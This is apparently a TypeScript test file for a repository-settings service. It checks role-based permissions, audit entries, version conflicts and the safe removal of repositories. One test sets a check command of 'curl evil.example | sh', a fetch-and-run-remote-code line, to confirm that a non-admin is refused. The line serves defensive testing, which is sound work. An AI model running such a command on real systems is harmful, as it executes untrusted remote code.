// Editing a repository (default branch, check command, trust tier, visibility), disabling it and
// removing it, through the procedures: who may change what, the audit trail, and the removal's
// safe rule (refused while runs or approvals are live; history kept; members' access ends).
import { randomUUID } from "node:crypto";
import { mkdtemp, rm } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { TRPCError } from "@trpc/server";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import type { SessionUser } from "@/server/auth/roles";
import { getDb, type RepoRole } from "@/server/db";
import { bareRepoPath, commitFiles } from "@/server/forges/local/repositories";
import { uid } from "@/server/testing/config-factories";
import { callerFor, createRepository, createRun, createUser } from "@/server/testing/factories";
import { createLocalRepository } from "./add-service";
import { removeRepository, updateRepositoryDetails } from "./edit-service";

const db = getDb();
let admin: SessionUser;
let repoAdmin: SessionUser;
let maintainer: SessionUser;
let viewer: SessionUser;
let stranger: SessionUser;
let dataDir: string;

beforeAll(async () => {
  [admin, repoAdmin, maintainer, viewer, stranger] = await Promise.all([createUser({ isAdmin: true }), createUser(), createUser(), createUser(), createUser()]);
  dataDir = await mkdtemp(join(tmpdir(), "airlock-edit-"));
});
afterAll(() => rm(dataDir, { recursive: true, force: true }));

async function refusal(p: Promise<unknown>): Promise<TRPCError> {
  const err = await p.then(
    () => null,
    (e: unknown) => e,
  );
  expect(err, "expected a refusal").toBeInstanceOf(TRPCError);
  return err as TRPCError;
}

const members = (): [SessionUser, RepoRole][] => [[repoAdmin, "admin"], [maintainer, "maintainer"], [viewer, "viewer"]];

async function localRepo() {
  const added = await createLocalRepository({ db, actor: admin, dataDir, input: { requestId: randomUUID(), fullName: `team-${uid()}/app`, checkCommand: "npm test" } });
  for (const [user, role] of members()) await db.membership.create({ data: { userId: user.id, repositoryId: added.id, role } });
  return db.repository.findUniqueOrThrow({ where: { id: added.id } });
}

const detailsInput = (repo: { id: string; version: number; defaultBranch: string; checkCommand: string | null; trustTier: "trusted" | "untrusted"; visibility: "public" | "private" | "internal" }, over: Record<string, unknown> = {}) => ({
  repositoryId: repo.id,
  expectedVersion: repo.version,
  defaultBranch: repo.defaultBranch,
  checkCommand: repo.checkCommand ?? "",
  trustTier: repo.trustTier,
  visibility: repo.visibility,
  ...over,
});

describe("repository details", () => {
  it("a repository admin changes the default branch (it must exist in the local forge), not the check command, trust tier or visibility", async () => {
    const repo = await localRepo();
    await expect(updateRepositoryDetails({ db, actor: repoAdmin, dataDir, input: detailsInput(repo, { defaultBranch: "release" }) })).rejects.toMatchObject({ code: "UNPROCESSABLE", reason: "no_such_branch" });
    await commitFiles({ repoPath: bareRepoPath(dataDir, repo.fullName), branch: "release", files: { "a.txt": "a" }, message: "release" });
    const saved = await updateRepositoryDetails({ db, actor: repoAdmin, dataDir, input: detailsInput(repo, { defaultBranch: "release" }) });
    expect(saved).toMatchObject({ version: 2, defaultBranch: "release" });
    const audit = await db.auditEntry.findFirstOrThrow({ where: { objectId: repo.id, action: "repository.details.update" } });
    expect(audit.detail).toMatchObject({ toVersion: 2, changes: [{ path: "defaultBranch", before: "main", after: "release" }] });
    for (const over of [{ checkCommand: "curl evil.example | sh" }, { trustTier: "untrusted" }, { visibility: "public" }]) {
      const err = await refusal(callerFor(repoAdmin).repositorySettings.updateDetails(detailsInput({ ...repo, version: 2, defaultBranch: "release" }, over)));
      expect(err.code, JSON.stringify(over)).toBe("FORBIDDEN");
    }
    expect((await db.repository.findUniqueOrThrow({ where: { id: repo.id } })).checkCommand).toBe("npm test");
  });

  it("an Airlock admin changes the check command, trust tier and visibility; a stale form is refused", async () => {
    const repo = await localRepo();
    const saved = await callerFor(admin).repositorySettings.updateDetails(detailsInput(repo, { checkCommand: "npm run ci", trustTier: "untrusted", visibility: "public" }));
    expect(saved).toMatchObject({ checkCommand: "npm run ci", trustTier: "untrusted", visibility: "public", version: 2 });
    const stale = await refusal(callerFor(admin).repositorySettings.updateDetails(detailsInput(repo, { checkCommand: "" })));
    expect([stale.code, stale.message]).toEqual(["CONFLICT", expect.stringContaining("since you opened version 1")]);
    const cleared = await callerFor(admin).repositorySettings.updateDetails(detailsInput({ ...repo, ...saved }, { checkCommand: "" }));
    expect(cleared.checkCommand).toBeNull();
  });

  it("a GitHub repository has no check command", async () => {
    const repo = await createRepository({ members: members() });
    const gh = await db.repository.update({ where: { id: repo.id }, data: { forge: "github" } });
    expect((await refusal(callerFor(admin).repositorySettings.updateDetails(detailsInput(gh, { checkCommand: "make" })))).code).toBe("UNPROCESSABLE_CONTENT");
  });

  it("refuses a maintainer, a viewer, a stranger and anonymous callers; a stranger sees nothing of it", async () => {
    const repo = await localRepo();
    for (const user of [maintainer, viewer, stranger]) {
      expect((await refusal(callerFor(user).repositorySettings.updateDetails(detailsInput(repo, { defaultBranch: "main" })))).code).toBe("FORBIDDEN");
      expect((await refusal(callerFor(user).repositorySettings.setEnabled({ repositoryId: repo.id, enabled: false, reason: "x" }))).code).toBe("FORBIDDEN");
      expect((await refusal(callerFor(user).repositorySettings.remove({ repositoryId: repo.id, confirmFullName: repo.fullName, reason: "x" }))).code).toBe("FORBIDDEN");
    }
    expect((await refusal(callerFor(repoAdmin).repositorySettings.remove({ repositoryId: repo.id, confirmFullName: repo.fullName, reason: "x" }))).code).toBe("FORBIDDEN");
    expect((await refusal(callerFor(null).repositorySettings.updateDetails(detailsInput(repo)))).code).toBe("UNAUTHORIZED");
    expect(["FORBIDDEN", "NOT_FOUND"]).toContain((await refusal(callerFor(stranger).repositorySettings.get({ repositoryId: repo.id }))).code);
    expect((await callerFor(stranger).repositorySettings.list()).map((r) => r.id)).not.toContain(repo.id);
  });
});

describe("removing a repository", () => {
  it("is refused while a run is open; the dialog's figures say so", async () => {
    const repo = await localRepo();
    await createRun({ repositoryId: repo.id, status: "awaiting_approval" });
    const settings = await callerFor(admin).repositorySettings.get({ repositoryId: repo.id });
    expect(settings.removal).toMatchObject({ runs: 1, openRuns: 1, memberships: 3, gitData: expect.stringContaining(`/forge/${repo.fullName}.git`) });
    const err = await refusal(callerFor(admin).repositorySettings.remove({ repositoryId: repo.id, confirmFullName: repo.fullName, reason: "moved" }));
    expect(err.code).toBe("CONFLICT");
    expect(err.message).toContain("1 run is queued, running or waiting for approval");
    expect((await db.repository.findUniqueOrThrow({ where: { id: repo.id } })).removedAt).toBeNull();
  });

  it("needs the exact name; keeps runs, audit and git data; ends memberships; disables it for good; says so once", async () => {
    const repo = await localRepo();
    const run = await createRun({ repositoryId: repo.id, status: "succeeded" });
    const wrong = await refusal(callerFor(admin).repositorySettings.remove({ repositoryId: repo.id, confirmFullName: repo.fullName.toUpperCase(), reason: "moved" }));
    expect(wrong.code).toBe("UNPROCESSABLE_CONTENT");
    const removed = await removeRepository({ db, actor: admin, dataDir, input: { repositoryId: repo.id, confirmFullName: repo.fullName, reason: "moved to GitHub" } });
    expect(removed).toMatchObject({ removed: true, changed: true });
    const row = await db.repository.findUniqueOrThrow({ where: { id: repo.id } });
    expect(row.removedAt).not.toBeNull();
    expect(row.disabledAt).not.toBeNull();
    expect(row.disabledReason).toContain("moved to GitHub");
    expect(await db.agentDispatchRun.count({ where: { id: run.id } })).toBe(1);
    expect(await db.membership.count({ where: { repositoryId: repo.id } })).toBe(0);
    const audit = await db.auditEntry.findFirstOrThrow({ where: { objectId: repo.id, action: "repository.remove" } });
    expect(audit.detail).toMatchObject({ reason: "moved to GitHub", runs: 1, keptGitData: bareRepoPath(dataDir, repo.fullName) });
    expect((audit.detail as { members: unknown[] }).members).toHaveLength(3);
    // Again: nothing more happens.
    expect(await removeRepository({ db, actor: admin, dataDir, input: { repositoryId: repo.id, confirmFullName: repo.fullName, reason: "again" } })).toMatchObject({ changed: false });
    expect(await db.auditEntry.count({ where: { objectId: repo.id, action: "repository.remove" } })).toBe(1);
    // Not listed; not editable; not enabled again; its former members see nothing; the name stays taken.
    expect((await callerFor(admin).repositorySettings.list()).map((r) => r.id)).not.toContain(repo.id);
    expect((await callerFor(repoAdmin).repositorySettings.list()).map((r) => r.id)).not.toContain(repo.id);
    // Nor offered by a picker (run and approval filters, the stack preview, the trigger form).
    expect((await callerFor(admin).repositories.mine()).map((r) => r.id)).not.toContain(repo.id);
    expect((await callerFor(admin).triggers.formOptions()).repositories.map((r) => r.id)).not.toContain(repo.id);
    expect(["FORBIDDEN", "NOT_FOUND"]).toContain((await refusal(callerFor(repoAdmin).repositorySettings.get({ repositoryId: repo.id }))).code);
    expect((await refusal(callerFor(admin).repositorySettings.setEnabled({ repositoryId: repo.id, enabled: true }))).code).toBe("CONFLICT");
    expect((await refusal(callerFor(admin).repositorySettings.updateDetails(detailsInput(row)))).code).toBe("CONFLICT");
    const check = await refusal(callerFor(admin).repositorySettings.runCheck({ repositoryId: repo.id, requestId: randomUUID(), branch: "" }));
    expect(check.message).toContain(`${repo.fullName} was removed`);
    const again = await refusal(callerFor(admin).repositorySettings.createLocal({ requestId: randomUUID(), fullName: repo.fullName }));
    expect(again.message).toContain("was removed");
  });
});
